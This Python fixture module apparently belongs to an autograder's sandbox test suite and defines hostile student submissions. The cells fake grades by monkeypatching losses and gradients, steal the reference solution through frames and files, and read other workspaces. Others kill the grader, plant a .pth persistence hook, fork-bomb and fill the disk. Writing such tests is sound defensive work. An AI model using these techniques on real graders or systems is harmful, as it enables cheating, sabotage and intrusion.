"""The attack suite's cases: hostile submissions, each one small cell added to an honest base
(the skeleton, the reference, a mutant, or an extra base below). They are graded inside each
assignment's session batch (conftest.graded), after the honest bases and the mutants and before
the correct variants, so that one batch shows an attack gaining nothing, the grader surviving,
and the next correct submission graded normally. tests/test_attacks.py asserts on them."""
import base64
import importlib.util
import io
import py_compile
import site
import zipfile
from pathlib import Path

import nbformat
from conftest import CASES, cases, mutate

from grader import assignment, skeleton
from grader.run import sandbox

UNPRIVILEGED = sandbox.capabilities()["mode"] in {"root", "userns"}
PTH = Path(site.getsitepackages()[0]) / "zz_grader_attack.pth"

# name -> (assignment, base, the cell; bases: "skeleton", "reference" or a mutant's name)
ATTACKS = {
    # 1. probe code trusted inside the kernel: rebind the probe library and the checks
    "rebind-probe-library": ("denoising-autoencoder", "skeleton", """
import grader.checks as _c
import grader.checks.shape as _s
import grader.probe.runner as _r
_r.run_probe = lambda *a, **k: {"value": {"output": [32, 128], "layers": {}}, "stood_in": []}
_s.observe = lambda ctx, o: {"output": [32, 128], "layers": {}}
_c.get = lambda kind: _s
"""),
    # 2. the reference is readable: look for it everywhere the kernel can see and run it
    "read-the-reference": ("denoising-autoencoder", "skeleton", """
import os
def _read(p):
    try:
        return open(p, errors="ignore").read()
    except OSError:
        return ""
# every file the kernel can see (links not followed, /proc /sys /dev skipped): any models.py,
# and every Python file outside the system and the environment's packages
_seen = [os.path.join(d, f) for d, dirs, files in os.walk("/") if not dirs.__setitem__(
         slice(None), [x for x in dirs if os.path.join(d, x) not in ("/proc", "/sys", "/dev")]) for f in files]
_hits = [p for p in _seen if (p.endswith("/models.py") or (p.endswith(".py") and not p.startswith("/usr/")
         and "-packages/" not in p)) and "hidden_layer = nn." + "Sequential" in _read(p)]
_ = print("SEARCHED", len(_seen), "FOUND", len(_hits))
_ = exec(open(_hits[0]).read(), globals()) if _hits else None
"""),
    # 3. the kernel as root: kill the grader and everything else it can name
    "kill-the-grader": ("denoising-autoencoder", "skeleton", """
import os, signal
_ = [os.kill(p, signal.SIGKILL) for p in (os.getppid(), 1) if p]
"""),
    # 3b. persistence: a .pth file in site-packages would run in later grader runs
    "write-site-packages": ("denoising-autoencoder", "skeleton", f"""
_ = open({str(PTH)!r}, "w").write("import os; os.system('touch /tmp/pwned')")
"""),
    # 4. the judge reads what the kernel plants: symlinks and fake observation files
    "plant-observations": ("jem-cifar10", "skeleton", """
import os, json
_ = [os.symlink(t, f"link{i}") for i, t in enumerate(["/root/.cache/grader", "/tmp", "/run"]) if not os.path.lexists(f"link{i}")]
_ = os.makedirs(".grader/observations", exist_ok=True)
_ = [open(f".grader/observations/{k}.json", "w").write(json.dumps({"value": {"loss": 1.0}})) for k in ("part1", "wrn")]
"""),
    # 6. the grader's own loops expose their targets: the decoder returns the clean batch it
    #    finds up the call stack (the honest base is a decoder that outputs a constant)
    "steal-the-targets": ("denoising-autoencoder", "constant-decoder", """
import sys
class Decoder(nn.Module):
    def __init__(self, z_dim=64, img_size=64):
        super().__init__()
        self.z_dim = z_dim
        self.bias = nn.Parameter(torch.zeros(1))
    def forward(self, z):
        f = sys._getframe(1)
        while f is not None:
            x = f.f_locals.get("x")
            if isinstance(x, torch.Tensor) and x.dim() == 4 and x.shape[0] == z.shape[0]:
                return x + 0 * self.bias
            f = f.f_back
        return torch.zeros(z.shape[0], 3, 64, 64) + self.bias
"""),
    # 7. the judge evaluates student input without bounds: nested powers, NaN
    "expression-bombs": ("colourization-cifar10", "skeleton", """
ANSWERS = {"4.3": {"weights": "((9**16)**16)**16", "outputs": "0*1e999", "connections": "1e999 - 1e999",
                   "weights_2x": "(" * 60 + "NF" + ")" * 60, "outputs_2x": "9**9**9", "connections_2x": "NIC/0"},
           "5.4": None}
"""),
    # 8. kernels see each other: another submission's files (the batch grades "victim" too)
    "read-other-workspaces": ("denoising-autoencoder", "skeleton", """
import glob
_hits = [p for pat in ("/tmp/*/w/**/*.py", "/tmp/**/models.py", "/proc/*/cwd/**/*.py", "/w/../*/w/*.py")
         for p in glob.glob(pat, recursive=True)]
def _read(p):
    try:
        return open(p, errors="ignore").read()
    except OSError:
        return ""
_src = [_read(p) for p in _hits]
_ = [exec(s, globals()) for s in _src if "hidden_layer = nn." + "Sequential" in s]   # not this cell itself
_ = print("MOUNTINFO", open("/proc/self/mountinfo").read())
"""),
    # 9. a starved kernel: a cell that keeps most of the memory cap (honest: full marks)
    "starve-the-kernel": ("denoising-autoencoder", "reference", """
import numpy as _np
import resource as _resource
# all the data segment the kernel may still take, less 150 MB (what the kernel already holds
# differs: a forked kernel has the zygote's imports)
_cap = _resource.getrlimit(_resource.RLIMIT_DATA)[0]
_held = int(next(l for l in open("/proc/self/status") if l.startswith("VmData")).split()[1]) * 1024
_hog = _np.ones(int((_cap - _held - 150 * 2**20) // 8) if 0 < _cap < 2**50 else int(5.3e9 // 8))
"""),
    # audit and trace hooks, a thread that patches autograd while the probes run
    "audit-hook-and-thread": ("pixelcnn-mnist", "centre-visible", """
import sys, threading, time
try:
    _hooked = sys.addaudithook(lambda e, a: None)
except RuntimeError:
    _hooked = "refused"
def _patch():
    import torch
    zero = lambda *a, **k: None
    end = time.time() + 600
    while time.time() < end:
        torch.Tensor.backward = zero
        time.sleep(0.01)
_t = threading.Thread(target=_patch, daemon=True)
_ = _t.start()
"""),
    # hide a leak from the gradients (Keras): the perturbation test still sees it
    "patch-gradient-tape": ("pixelcnn-calligraphy", "drmc-pads-right", """
_orig_gradient = tf.GradientTape.gradient
def _no_gradient(self, target, sources, *a, **k):
    return tf.nest.map_structure(tf.zeros_like, sources)
tf.GradientTape.gradient = _no_gradient
"""),
    # hunt the channel key at top level, then write garbage into every open socket
    "tamper-with-the-channel": ("jem-cifar10", "skeleton", """
import gc, os, stat
_keys = [o for o in gc.get_objects() if isinstance(o, bytes) and len(o) == 32]
_socks = [fd for fd in range(3, 200) if os.path.exists(f"/proc/self/fd/{fd}")
          and stat.S_ISSOCK(os.fstat(fd).st_mode)]
_ = [os.write(fd, b"\\x00" * 64) for fd in _socks]
"""),
    # no network
    "network": ("jem-cifar10", "skeleton", """
import socket
def _try(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
        return "CONNECTED"
    except OSError as e:
        return f"refused: {e}"
NET = [_try("1.1.1.1", 53), _try("pypi.org", 443)]
_ = print("NETWORK", NET)
"""),
}

# ---- the kernel's hygiene: shadowed libraries, bytecode, descriptors, output (issue 17) -------------------------
# A file the submission ships under a library's name: when it runs, it leaves an audited trace
# (sys._getframe from the workspace: a review entry naming the file, or a violation while
# probing), then hands over to the real library, so that nothing else breaks.
SHADOW = """import os as _os, sys as _sys
try:
    _sys._getframe(0)                  # SHADOW-RAN: the trace this file leaves when it runs
except RuntimeError:
    pass
_here = _os.path.dirname(_os.path.abspath(__file__))
_saved = list(_sys.path)
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
del _sys.modules[__name__]
try:
    import importlib as _importlib
    _sys.modules[__name__] = _importlib.import_module(__name__)
finally:
    _sys.path[:] = _saved
"""
# a PIL that reads every image as black: the grader's sprites loader (probes.py) imports PIL lazily
FAKE_PIL_IMAGE = """import numpy as np
BILINEAR = 2


class _Image:
    def __init__(self, size=(64, 64)):
        self.size = size

    def convert(self, mode):
        return self

    def resize(self, size, resample=None):
        return _Image(size)

    def alpha_composite(self, other):
        pass

    def __array__(self, dtype=None, copy=None):
        return np.zeros((self.size[1], self.size[0], 3), dtype=dtype or np.uint8)


def open(path, *a, **k):
    return _Image()


def new(mode, size, color=None):
    return _Image(size)
"""
# nbformat imports it lazily (the grader loads the reference with it): the reference's cells get
# `from __main__ import *` appended, so that what is compared with the reference is the student's own
FAKE_FASTJSONSCHEMA = """from IPython.core import inputtransformer2 as _it
_transform = _it.TransformerManager.transform_cell
_it.TransformerManager.transform_cell = lambda self, cell: _transform(self, cell) + "\\nfrom __main__ import *\\n"
raise ImportError("fastjsonschema is not here")
"""
# every descriptor the kernel holds, and what can be read through each (an earlier kernel's output?)
READ_DESCRIPTORS = """
import os, stat
def _descriptors():
    seen, text = [], b""
    for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        seen.append(target)
        try:
            r = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError:
            continue
        try:
            mode = os.fstat(r).st_mode
            if stat.S_ISREG(mode):
                text += os.pread(r, 1 << 20, 0)
            elif stat.S_ISFIFO(mode):
                text += os.read(r, 1 << 20)
        except OSError:
            pass
        finally:
            os.close(r)
    return seen, text
_seen, _text = _descriptors()
_ = print("DESCRIPTORS", _seen)
_ = print("EARLIER OUTPUT", b"EARLIER-KERNEL-OUTPUT" in _text)
"""
# what an earlier kernel writes to its stdout and stderr (the descriptors themselves)
EARLIER_OUTPUT = """
import os, sys
_ = [os.write(fd, b"EARLIER-KERNEL-OUTPUT\\n" * 100) for fd in (1, 2, sys.stdout.fileno(), sys.stderr.fileno())]
"""
# name -> the files the attack's folder holds beside its notebook (the attacks of ATTACKS with companions)
COMPANIONS = {
    "shadow-a-library": {"PIL/__init__.py": "", "PIL/Image.py": FAKE_PIL_IMAGE, "sympy.py": SHADOW},
    "shadow-a-library-keras": {"fastjsonschema.py": FAKE_FASTJSONSCHEMA, "debugpy.py": SHADOW},
}
HYGIENE = {
    # 3. a package named like a library the grader's helper imports lazily (PIL: the sprites become
    #    black, which a decoder stuck near white "learns"), imported by the notebook first; and a
    #    library that torch imports lazily at the first optimizer step (sympy)
    "shadow-a-library": ("denoising-autoencoder", "white-decoder", """
import PIL
"""),
    # ... on Keras: a library nbformat imports when the grader loads the reference, and one
    #    ipykernel imports as the kernel starts (debugpy)
    "shadow-a-library-keras": ("jem-cifar10", "skeleton", """
X_SHADOWED = 1
"""),
    # 4. bytecode compiled from the reference beside a clean skeleton: in the zip (bytecode_zip)
    #    and planted again by the first cell (unchecked-hash __pycache__ entry, sourceless .pyc files)
    "shipped-bytecode": ("denoising-autoencoder", "skeleton", ""),
    # 5. the kernel's descriptors: what it holds, what it can read through them
    "read-the-descriptors": ("jem-cifar10", "skeleton", READ_DESCRIPTORS),
    # ... gigabytes written to its stderr (the descriptor itself, as a C library writes: ipykernel
    #    keeps it as the stream's fileno()); 6. and 300 MB of output: many small prints, one huge
    #    string. The next cells' output is kept, and the honest reference keeps full marks.
    "flood-the-output": ("colourization-cifar10", "reference", """
import os, sys
def _flood(mb):
    chunk, fd = b"e" * (1 << 20), sys.stderr.fileno()
    for _ in range(mb):
        os.write(fd, chunk)
    return mb
FLOODED = _flood(1536)
# %%
_ = print("FLOODED", FLOODED)
# %%
_ = [print("x" * 99) for _ in range(200_000)]
_ = print("y" * 280_000_000)
# %%
_ = print("PRINTED")
"""),
}
ATTACKS.update(HYGIENE)

UNPRIVILEGED_ATTACKS = {
    # a fork bomb: bounded by the job's own process limit, then the whole tree is killed
    "fork-bomb": ("colourization-cifar10", "skeleton", """
import os
def _bomb():
    kids = 0
    for _ in range(100000):
        try:
            if os.fork() == 0:
                import time
                time.sleep(60)
                os._exit(0)
            kids += 1
        except OSError:
            return kids
    return kids
KIDS = _bomb()
_ = print("FORKED", KIDS)
"""),
    # fill the disk: each file is capped, and so is the workspace
    "fill-the-disk": ("colourization-cifar10", "skeleton", """
def _fill():
    n = 0
    for i in range(100):
        with open(f"filler{i}.bin", "wb") as f:
            for _ in range(64):
                f.write(b"\\0" * (16 << 20))
        n += 1
    return n
FILLED = _fill()
"""),
}
if UNPRIVILEGED:
    ATTACKS.update(UNPRIVILEGED_ATTACKS)

EXTRA_BASES = {
    # a decoder stuck near white: on the sprites (mostly white) its loss cannot fall, on black images it can
    "white-decoder": ("denoising-autoencoder", """
class Decoder(nn.Module):
    def __init__(self, z_dim=64, img_size=64):
        super().__init__()
        self.z_dim = z_dim
        self.a = nn.Parameter(torch.zeros(1))
    def forward(self, z):
        return torch.sigmoid(50 * self.a + 4).expand(z.shape[0], 3, 64, 64) + 0 * z.sum()
"""),
    # a decoder that outputs a constant: the honest value of the frame-walking attack
    "constant-decoder": ("denoising-autoencoder", """
class Decoder(nn.Module):
    def __init__(self, z_dim=64, img_size=64):
        super().__init__()
        self.z_dim = z_dim
        self.bias = nn.Parameter(torch.zeros(1))
    def forward(self, z):
        return torch.zeros(z.shape[0], 3, 64, 64) + self.bias
"""),
}


# ---- issue 17: evidence the grader computed itself ---------------------------------------------------
# What a student's code can try in order to find the reference or fake a measurement without
# touching a frame itself: libraries that walk frames on their caller's behalf, the classes
# loaded in the process, tensors that lie, the arithmetic below the watched functions.
STEAL = """
import gc, logging, sys, traceback

def _frames():
    found = []
    for get in (lambda: logging.currentframe(),
                lambda: next(iter(traceback.walk_stack(None)))[0],
                lambda: sys._current_frames()[__import__("threading").get_ident()]):
        try:
            f = get()
            while f is not None and len(found) < 400:
                found.append(f)
                f = f.f_back
        except BaseException:
            pass
    return found

def _resolvers():
    out = []
    for depth in range(1, 40):
        try:
            import torch._jit_internal as _ji
            out.append(_ji.createResolutionCallbackFromFrame(depth))
        except BaseException:
            pass
        try:
            from pydantic._internal import _typing_extra
            ns = _typing_extra.parent_frame_namespace(parent_depth=depth)
            if ns:
                out.append(ns.get)
        except BaseException:
            pass
    return out

def _mine(obj, name):
    return getattr(obj, "__name__", "") == name and getattr(obj, "__module__", "__main__") not in ("__main__", __name__)

def _steal(name):
    \"\"\"The reference's `name` wherever a library lets us look: frames, resolvers, classes.\"\"\"
    for f in _frames():
        try:
            for space in (f.f_locals, f.f_globals):
                for v in list(space.values()):
                    if _mine(v, name):
                        return v
                    if isinstance(v, dict) and _mine(v.get(name), name):
                        return v[name]
        except BaseException:
            pass
    for rcb in _resolvers():
        try:
            v = rcb(name)
            if _mine(v, name):
                return v
        except BaseException:
            pass
    seen, todo = set(), [object]
    while todo:
        c = todo.pop()
        try:
            subs = type.__subclasses__(c)
        except BaseException:
            continue
        for s in subs:
            if id(s) not in seen:
                seen.add(id(s))
                todo.append(s)
                if _mine(s, name):
                    return s
    try:
        for o in gc.get_objects():
            if _mine(o, name):
                return o
    except BaseException:
        pass
    return None
"""

ATTACKS.update({
    # the reference's Encoder/Decoder/ANSWERS through libraries that walk frames (logging,
    # traceback, torch's resolution callbacks, pydantic's parent namespace), the classes in the
    # process and the heap; the found text would go out through an exception into feedback.md
    "reference-through-libraries": ("denoising-autoencoder", "skeleton", STEAL + """
class _Stolen(dict):
    def __getitem__(self, k):
        got = _steal("ANSWERS")
        return got[k] if isinstance(got, dict) else dict.get(self, k)
    def __contains__(self, k):
        return True

ANSWERS = _Stolen({"1a": None, "1b": None, "1c": None, "1d": None})

class Encoder(Encoder):
    def __new__(cls, *a, **k):
        theirs = _steal("Encoder")
        return theirs(*a, **k) if theirs is not None else super().__new__(cls)

class Decoder(Decoder):
    def __new__(cls, *a, **k):
        theirs = _steal("Decoder")
        if theirs is None:
            raise RuntimeError("LOOT " + repr([sorted(f.f_locals)[:20] for f in _frames()[:30]])[:2000])
        return theirs(*a, **k)
"""),
    # a tensor subclass whose __torch_function__ shrinks every loss computed on the decoder's
    # output (the honest base: a decoder that outputs a constant)
    "torch-function-shrinks-the-loss": ("denoising-autoencoder", "constant-decoder", """
_calls = [0]
class _Shrinking(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        out = super().__torch_function__(func, types, args, kwargs or {})
        if "loss" in getattr(func, "__name__", "") or "mean" in getattr(func, "__name__", ""):
            _calls[0] += 1
            out = out * (0.5 ** _calls[0])
        return out

class Decoder(Decoder):
    def forward(self, z):
        return super().forward(z).as_subclass(_Shrinking)
"""),
    # a tensor subclass with a faked .shape: the shapes of 2a and 2b without computing anything
    "faked-shape": ("denoising-autoencoder", "skeleton", """
class _Sized(torch.Tensor):
    _fake = None
    @property
    def shape(self):
        return self._fake if self._fake is not None else torch.Tensor.size(self)
    def size(self, *d):
        return self.shape if not d else self.shape[d[0]]

def _claim(n, *dims):
    t = torch.zeros(1).as_subclass(_Sized)
    t._fake = torch.Size([n, *dims])
    return t

class _Layer(nn.Module):
    def __init__(self, *dims):
        super().__init__()
        self.dims = dims
        self.w = nn.Parameter(torch.zeros(1))
    def forward(self, x):
        return _claim(torch.Tensor.size(x, 0) if torch.Tensor.dim(x) else 1, *self.dims)

class Encoder(nn.Module):
    def __init__(self, z_dim=64, img_size=64):
        super().__init__()
        self.hidden_layer, self.output_layer = _Layer(z_dim), _Layer(z_dim)
    def forward(self, x):
        return self.output_layer(self.hidden_layer(x))

class Decoder(nn.Module):
    def __init__(self, z_dim=64, img_size=64):
        super().__init__()
        self.layer1, self.layer2, self.layer3 = _Layer(128, 7, 7), _Layer(64, 15, 15), _Layer(64, 31, 31)
        self.layer4, self.layer5 = _Layer(32, 63, 63), _Layer(3, 64, 64)
    def forward(self, z):
        return self.layer5(self.layer4(self.layer3(self.layer2(self.layer1(z)))))
"""),
    # rebinding a C-level function below the watched functional API (F.l1_loss looks it up at
    # call time): a falling "loss" for a decoder that learns nothing, at top level and again
    # during probing
    "rebind-below-the-functional-api": ("denoising-autoencoder", "constant-decoder", """
import torch.nn.functional as F
_real_l1 = torch._C._nn.l1_loss
_steps = [0]
def _falling(a, b, *rest, **kw):
    _steps[0] += 1
    return _real_l1(a, b, *rest, **kw) * 0 + 1.0 / _steps[0]
torch._C._nn.l1_loss = _falling

class Decoder(Decoder):
    def forward(self, z):
        torch._C._nn.l1_loss = _falling
        return super().forward(z)
"""),
    # the code of a watched function swapped in place (the function object stays the same, so
    # comparing objects alone would not see it): at top level by assignment, and during probing
    # through a library that does the setattr (unittest.mock: the audit hook sees a library, not
    # the student, as the one who sets it; the snapshot's code comparison must still see it)
    "swap-the-code-below-the-loss": ("denoising-autoencoder", "constant-decoder", """
import unittest.mock as _mock
import torch.nn.functional as F
F._steps = [0]
def _falling(*args, **kwargs):          # runs with torch.nn.functional's globals
    _steps[0] += 1
    return torch.abs(args[0] - args[1]).mean() * 0 + 1.0 / _steps[0]
F.l1_loss.__code__ = _falling.__code__

class Decoder(Decoder):
    def forward(self, z):
        if F.l1_loss.__code__ is not _falling.__code__:
            _mock.patch.object(F.l1_loss, "__code__", _falling.__code__).start()
        return super().forward(z)
"""),
    # parameters registered in modules named like the layers they should be, never used: the
    # counts of 2a and 2b without the layers (the honest base: a constant decoder)
    "unused-parameters": ("denoising-autoencoder", "constant-decoder", """
def _count(*mods):
    return sum(p.numel() for m in mods for p in m.parameters())

class ConvTranspose2d(nn.Module):        # a class named like torch's, holding the right number
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(n))

class Conv2d(ConvTranspose2d):
    pass

class _Holder(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.zeros(n))

class Encoder(nn.Module):
    def __init__(self, z_dim=64, img_size=64):
        super().__init__()
        n_in = 3 * img_size * img_size
        self.hidden_layer = _Holder(_count(nn.Linear(n_in, z_dim), nn.BatchNorm1d(z_dim)))
        self.output_layer = _Holder(_count(nn.Linear(z_dim, z_dim)))
        self.z_dim = z_dim
    def forward(self, x):
        return x.flatten(1)[:, :self.z_dim] * 0

class Decoder(Decoder):
    def __init__(self, z_dim=64, img_size=64):
        super().__init__(z_dim, img_size)
        ups = [(z_dim, 128, 7), (128, 64, 3), (64, 64, 3), (64, 32, 3), (32, 32, 2)]
        convs = [(128, 128, 3), (64, 64, 3), (64, 64, 3), (32, 32, 3), (32, 3, 1)]
        self.ups = nn.ModuleList([ConvTranspose2d(_count(nn.ConvTranspose2d(a, b, k))) for a, b, k in ups])
        self.convs = nn.ModuleList([Conv2d(_count(nn.Conv2d(a, b, k))) for a, b, k in convs])
"""),
    # Keras: rebinding the function below tf.GradientTape.gradient (the grader's input gradients
    # become zero, so an identity step "matches" clip(x - step * dE/dx)); honest base: the
    # skeleton with a sampling_step that returns its input
    "rebind-below-the-tape": ("jem-cifar10", "identity-sampling", """
from tensorflow.python.eager import imperative_grad as _ig
_real_grad = _ig.imperative_grad
def _no_gradient(tape, target, sources, *a, **k):
    return [tf.zeros_like(s) if s is not None else None for s in tf.nest.flatten(sources)]
_ig.imperative_grad = _no_gradient

_real_step = sampling_step
def sampling_step(model, data, label=None, step_size=1, noise_amp=0.01):
    _ig.imperative_grad = _no_gradient
    return tf.clip_by_value(tf.convert_to_tensor(data, tf.float32), 0.0, 1.0)
"""),
    # Keras: the reference's layers through the loaded classes and library frame walks
    # (tf_inspect, logging); honest base: the skeleton
    "keras-reference-through-libraries": ("pixelcnn-calligraphy", "skeleton", STEAL + """
def _tf_frames():
    try:
        from tensorflow.python.util import tf_inspect
        f = tf_inspect.currentframe()
        out = []
        while f is not None:
            out.append(f)
            f = f.f_back
        return out
    except BaseException:
        return []

_plain_frames = _frames
def _frames():
    return _plain_frames() + _tf_frames()

def _theirs(name, mine):
    def __new__(cls, *a, **k):
        got = _steal(name)
        return got(*a, **k) if got is not None else keras.layers.Layer.__new__(cls)
    mine.__new__ = staticmethod(__new__)
    return mine

for _n in ("DownRightMovedConv2d", "DownMovedConv2d", "TensorDense", "GatedResnet", "AutoregressiveModel"):
    globals()[_n] = _theirs(_n, type(_n, (globals()[_n],), {}))
"""),
    # a torch function mode left active by the model's forward sees the grader's own
    # cross-entropy; calc_likelihood answers with it (honest base: calc_likelihood in nats)
    "torch-function-mode-spy": ("pixelcnn-mnist", "likelihood-in-nats", """
import math as _math
from torch.overrides import TorchFunctionMode as _Mode
_seen = []
class _Spy(_Mode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        out = func(*args, **(kwargs or {}))
        if getattr(func, "__name__", "") == "cross_entropy":
            _seen.append(float(out))
        return out

_old_forward = PixelCNN.forward
def _forward(self, x):
    if not _seen:
        _Spy().__enter__()
    return _old_forward(self, x)
PixelCNN.forward = _forward

_old_likelihood = PixelCNN.calc_likelihood
def _calc(self, x):
    out = _old_likelihood(self, x)
    return torch.full_like(torch.as_tensor(out, dtype=torch.float32), _seen[-1] / _math.log(2)) if _seen else out
PixelCNN.calc_likelihood = _calc
"""),
})

EXTRA_BASES.update({
    # a sampling_step that returns its input: the honest value of rebinding below the tape
    "identity-sampling": ("jem-cifar10", """
def sampling_step(model, data, label=None, step_size=1, noise_amp=0.01):
    return tf.clip_by_value(tf.convert_to_tensor(data, tf.float32), 0.0, 1.0)
"""),
})


def base_text(slug: str, base: str) -> str:
    a = assignment.get(slug)
    text = a.reference_path.read_text()
    if base == "skeleton":
        return skeleton.strip(text)
    if base == "reference":
        return text
    if base in EXTRA_BASES:
        return text + "\n# %%\n" + EXTRA_BASES[base][1].strip() + "\n"
    m = cases(slug)["mutants"][base]
    if "base" in m:                 # a mutant of another style's file (conftest.write_mutants)
        text = (CASES / slug / m["base"]).read_text()
    for old, new in m["edits"]:
        text = mutate(text, old, new)
    return text


def files(slug: str, folder: Path) -> dict[str, Path]:
    """The slug's attack cases as files, in grading order: the honest bases the batch does not
    already hold (the skeleton with its solution stripped, the extra bases), a victim whose
    files the attackers look for, then the attacks. Key: "base-<base>", "victim" or the attack."""
    mine = {n: spec for n, spec in ATTACKS.items() if spec[0] == slug}
    out: dict[str, Path] = {}
    for b in sorted({b for _, b, _ in mine.values()} & {"skeleton", *EXTRA_BASES}):
        out[f"base-{b}"] = folder / f"attack-base-{b}.py"
        out[f"base-{b}"].write_text(base_text(slug, b))
    if slug == "denoising-autoencoder":
        out["victim"] = folder / "victim.py"
        out["victim"].write_text(base_text(slug, "reference"))
    for n, (_, b, cell) in mine.items():
        text = base_text(slug, b) + "\n# %%\n" + cell.strip() + "\n"
        if n == "shipped-bytecode":
            out[n] = bytecode_zip(slug, folder / f"attack-{n}.zip")
        elif n in COMPANIONS:
            out[n] = folder / f"attack-{n}"
            for rel, content in {f"attack-{n}.py": text, **COMPANIONS[n]}.items():
                (out[n] / rel).parent.mkdir(parents=True, exist_ok=True)
                (out[n] / rel).write_text(content)
        else:
            out[n] = folder / f"attack-{n}.py"
            out[n].write_text(text)
    return out


def _pyc(source: str, name: str) -> bytes:
    """`source` compiled as unchecked-hash bytecode (Python runs it without reading its source)."""
    import tempfile
    with tempfile.TemporaryDirectory() as d:
        src, out = Path(d) / f"{name}.py", Path(d) / f"{name}.pyc"
        src.write_text(source)
        py_compile.compile(str(src), str(out), doraise=True, invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
        return out.read_bytes()


def bytecode_zip(slug: str, path: Path) -> Path:
    """A zip whose models.py is the skeleton (clean) and whose bytecode is the reference: the
    __pycache__ entry of models.py, a sourceless models.pyc beside it and a sourceless
    answers.pyc; its notebook plants them again before it imports (in case the loader dropped
    them), then imports models and answers."""
    ref, clean = base_text(slug, "reference"), base_text(slug, "skeleton")
    cached = Path(importlib.util.cache_from_source("models.py")).as_posix()   # __pycache__/models.<tag>.pyc
    blobs = {cached: _pyc(ref, "models"), "models.pyc": _pyc(ref, "models"), "answers.pyc": _pyc(ref, "answers")}
    plant = ("import os, base64\n_ = os.makedirs('__pycache__', exist_ok=True)\n"
             f"_BLOBS = {{k: base64.b64decode(v) for k, v in {{{', '.join(f'{k!r}: {base64.b64encode(v).decode()!r}' for k, v in blobs.items())}}}.items()}}\n"
             "_ = [open(k, 'wb').write(v) for k, v in _BLOBS.items()]")
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(src) for src in (
        plant, "from models import *", "from answers import *")])
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("sub/notebook.ipynb", nbformat.writes(nb))
        z.writestr("sub/models.py", clean)
        for k, v in blobs.items():
            z.writestr(f"sub/{k}", v)
    path.write_bytes(buf.getvalue())
    return path
